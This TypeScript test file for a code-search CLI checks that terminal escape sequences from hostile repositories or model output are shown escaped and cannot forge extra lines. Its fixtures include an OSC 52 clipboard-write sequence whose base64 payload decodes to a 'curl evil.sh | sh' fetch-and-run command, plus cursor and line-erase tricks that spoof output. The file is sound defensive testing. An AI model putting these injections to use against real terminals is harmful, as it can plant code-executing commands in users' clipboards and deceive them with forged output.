/**
 * Terminal escapes from a hostile repository or a hostile model (issue 9, kind 7): ESC/CSI/OSC
 * sequences and C1 controls in file content, file names, the model's answer and its reasoning
 * are shown as visible escapes in human output (CLI and MCP text blocks); a file name holding a
 * newline never forges an extra record; `--json` stays exact. Runs the built CLI.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { Evidence } from "../../src/evidence/evidence.js";
import { visibleText } from "../../src/evidence/visible-text.js";
import { renderCitations, renderEvidenceList } from "../../src/cli/render.js";
import { summarizeResult } from "../../src/mcp/summary.js";
import { startFakeOllama, type FakeOllama } from "../helpers/fake-ollama.js";
import { runCli } from "./run-cli.js";
import pc from "picocolors";

/** OSC 52 clipboard write, a cursor move, a line erase, a C1 CSI and a bidi override. */
const OSC52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
const CURSOR_UP = "\u001b[1A";
const ERASE_LINE = "\u001b[2K";
const C1_CSI = "\u009b31m";
const BIDI = "\u202e";
const FORGED = "Citations: 3 of 3 verified";

/** True when `s` holds a character that a terminal would interpret (C0 but \n/\t, DEL, C1, bidi). */
function hasRawControl(s: string): boolean {
  return /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u.test(s);
}

const plain = pc.createColors(false);

describe("visibleText", () => {
  it("shows C0, DEL, C1 and bidi controls as escapes; keeps newlines and tabs only when multiline", () => {
    expect(visibleText(`a${OSC52}b`)).toBe("a\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07b");
    expect(visibleText(`${CURSOR_UP}${ERASE_LINE}x`)).toBe("\\x1b[1A\\x1b[2Kx");
    expect(visibleText(C1_CSI)).toBe("\\x9b31m");
    expect(visibleText(`${BIDI}abc\u2066`)).toBe("\\u{202e}abc\\u{2066}");
    expect(visibleText("a\nb\tc\rd\u007f")).toBe("a\\nb\\tc\\rd\\x7f");
    expect(visibleText("a\nb\tc\rd", { multiline: true })).toBe("a\nb\tc\\rd");
    expect(visibleText("plain ünïcode ✓ text")).toBe("plain ünïcode ✓ text");
    expect(visibleText("\u0000")).toBe("\\x00");
  });
});

describe("renderers", () => {
  const rec: Evidence = {
    path: `src/evil\n${FORGED}\u001b[2K.py`,
    start_line: 3,
    end_line: 4,
    kind: "definition",
    name: `f${CURSOR_UP}`,
    snippet: `def f():${OSC52}\n\treturn 1${C1_CSI}\r${FORGED}`,
  };

  it("a human evidence record shows escapes and never starts a line with the forged text", () => {
    const out = renderEvidenceList([rec], plain);
    expect(hasRawControl(out)).toBe(false);
    expect(out.split("\n").some((l) => l.startsWith(FORGED))).toBe(false);
    expect(out).toContain("src/evil\\nCitations: 3 of 3 verified\\x1b[2K.py:3");
    expect(out).toContain("def f():\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
    expect(out).toContain("\treturn 1\\x9b31m\\rCitations");
    // One record: a header and two snippet lines.
    expect(out.trimEnd().split("\n")).toHaveLength(3);
  });

  it("citations with a forged path stay one line each", () => {
    const out = renderCitations([{ path: `a.py:1\n  ✓ b.py`, line: 2, verified: false }], plain);
    expect(out.trimEnd().split("\n")).toEqual(["Citations: 0 of 1 verified", "  ? a.py:1\\n  ✓ b.py:2  unseen: never shown to the model", "1 unseen"]);
  });

  it("an MCP text block shows one heading per record, whatever the name holds", () => {
    const text = summarizeResult({ ok: true, evidence: [rec], total: 1, truncated: false, note: `n${OSC52}\nforged` });
    expect(hasRawControl(text)).toBe(false);
    const headings = text.split("\n").filter((l) => !l.startsWith("  "));
    expect(headings).toEqual([
      "1 result.",
      "src/evil\\nCitations: 3 of 3 verified\\x1b[2K.py:3-4 definition f\\x1b[1A",
      "Note: n\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\nforged",
    ]);
    const err = summarizeResult({ ok: false, error: { code: "NOT_FOUND", message: `no such file: x\n${FORGED}`, hint: `h${ERASE_LINE}` } });
    expect(err).toBe("ERROR NOT_FOUND: no such file: x\\nCitations: 3 of 3 verified\nHint: h\\x1b[2K");
  });
});

describe("CLI human output (built CLI)", () => {
  let root: string;
  const evilName = `evil\n${FORGED}.py`;
  beforeAll(() => {
    root = mkdtempSync(path.join(os.tmpdir(), "codecite-esc-"));
    mkdirSync(path.join(root, "src"));
    writeFileSync(path.join(root, "src", "term.py"), `MARKER = 1  # ${OSC52}${CURSOR_UP}${ERASE_LINE}${C1_CSI}${BIDI}\n`);
    writeFileSync(path.join(root, "src", evilName), "MARKER = 2\n");
    writeFileSync(path.join(root, "src", `esc${ERASE_LINE}.py`), "MARKER = 3\n");
  });
  afterAll(() => rmSync(root, { recursive: true, force: true }));

  it("search: content and file names are shown escaped; three records, three headers", async () => {
    const r = await runCli(["search", "MARKER", "--root", root], { cwd: root });
    expect(r.code).toBe(0);
    expect(hasRawControl(r.stdout) || hasRawControl(r.stderr)).toBe(false);
    expect(r.stdout).toContain("\\x1b]52;c;");
    expect(r.stdout).toContain("src/evil\\nCitations: 3 of 3 verified.py:1");
    expect(r.stdout).toContain("src/esc\\x1b[2K.py:1");
    expect(r.stdout.split("\n").filter((l) => /^\S/.test(l))).toHaveLength(3);
    expect(r.stdout.split("\n").some((l) => l.startsWith(FORGED))).toBe(false);
  });

  it("config: a repository's .codecite.yml value is shown escaped and cannot forge a line", async () => {
    const repo = mkdtempSync(path.join(os.tmpdir(), "codecite-esc-config-"));
    try {
      writeFileSync(path.join(repo, ".codecite.yml"), `model: ${JSON.stringify(`m${OSC52}${ERASE_LINE}\n${FORGED}`)}\n`);
      const r = await runCli(["config", "--root", repo], { cwd: repo });
      expect(r.code).toBe(0);
      expect(r.stdout).not.toMatch(/[\u001b\u0007]/);
      const model = r.stdout.split("\n").find((l) => l.startsWith("model "));
      expect(model).toContain(`m${visibleText(OSC52 + ERASE_LINE)}\\n${FORGED}`);
      expect(r.stdout.split("\n").some((l) => l.startsWith(FORGED))).toBe(false);
    } finally {
      rmSync(repo, { recursive: true, force: true });
    }
  });

  it("read: an error quoting a hostile path is shown escaped", async () => {
    const r = await runCli(["read", `nope${OSC52}\n${FORGED}`, "--root", root], { cwd: root });
    expect(r.code).toBe(2);
    expect(hasRawControl(r.stderr)).toBe(false);
    expect(r.stderr.split("\n").some((l) => l.startsWith(FORGED))).toBe(false);
    expect(r.stderr).toContain("nope\\x1b]52;c;");
  });

  it("--json stays exact (the raw characters, JSON-escaped)", async () => {
    const r = await runCli(["search", "MARKER", "--root", root, "--json"], { cwd: root });
    const doc = JSON.parse(r.stdout) as { evidence: Evidence[] };
    const paths = doc.evidence.map((e) => e.path);
    expect(paths).toContain(`src/${evilName}`);
    expect(doc.evidence.find((e) => e.path === "src/term.py")?.snippet).toBe(`MARKER = 1  # ${OSC52}${CURSOR_UP}${ERASE_LINE}${C1_CSI}${BIDI}`);
  });

  describe("ask", () => {
    let server: FakeOllama | undefined;
    afterEach(async () => {
      await server?.close();
      server = undefined;
    });

    it("the model's answer and reasoning are shown escaped; the real citation summary cannot be forged", async () => {
      server = await startFakeOllama({
        models: [{ name: "qwen3:8b", capabilities: ["completion", "tools", "thinking"] }],
        turns: [
          {
            repeat: true,
            thinking: `plan${OSC52}\r${ERASE_LINE}`,
            content: `See src/term.py:1.${OSC52}\r${ERASE_LINE}${CURSOR_UP}\n\n${FORGED}\n  ✓ src/term.py:1${C1_CSI}`,
          },
        ],
      });
      const r = await runCli(["ask", "q", "--root", root, "--model", "qwen3:8b", "--verbose"], { env: { OLLAMA_HOST: server.host }, cwd: root });
      expect(r.code).toBe(0);
      expect(hasRawControl(r.stdout)).toBe(false);
      expect(hasRawControl(r.stderr)).toBe(false);
      expect(r.stdout).toContain("See src/term.py:1.\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\r\\x1b[2K\\x1b[1A");
      expect(r.stderr).toContain("plan\\x1b]52;c;");
      expect(r.stdout).toContain("\\x9b31m");
    });

    it("model names the server lists are shown escaped: ask's default-model line, chat's model line, eval's table and recommendation", async () => {
      const evilModel = `qwen3:8b${OSC52}${ERASE_LINE}${C1_CSI}`;
      server = await startFakeOllama({
        models: [{ name: evilModel, capabilities: ["completion", "tools"] }],
        turns: [{ repeat: true, content: "I cannot find that in the code." }],
      });
      const env = { OLLAMA_HOST: server.host };
      const ask = await runCli(["ask", "q", "--root", root, "--no-prefetch"], { env, cwd: root });
      expect(ask.code).toBe(0);
      expect(hasRawControl(ask.stderr)).toBe(false);
      expect(ask.stderr).toContain("codecite: using model qwen3:8b\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[2K\\x9b31m (the first installed model with tool support)");
      const chat = await runCli(["chat", "--root", root, "--no-prefetch"], { env, cwd: root, stdin: "q\n/model\n" });
      expect(chat.code).toBe(0);
      expect(hasRawControl(chat.stdout + chat.stderr)).toBe(false);
      expect(chat.stdout).toContain("model: qwen3:8b\\x1b]52;c;");
      const evalRun = await runCli(["eval", "--root", root, "--all-installed", "--count", "1", "--out", path.join(root, ".eval-out")], { env, cwd: root });
      expect(hasRawControl(evalRun.stdout + evalRun.stderr)).toBe(false);
      expect(evalRun.stdout).toMatch(/^qwen3:8b\\x1b\]52;c;\S+\\x07\\x1b\[2K\\x9b31m +8192\/auto/m);
    });
  });
});
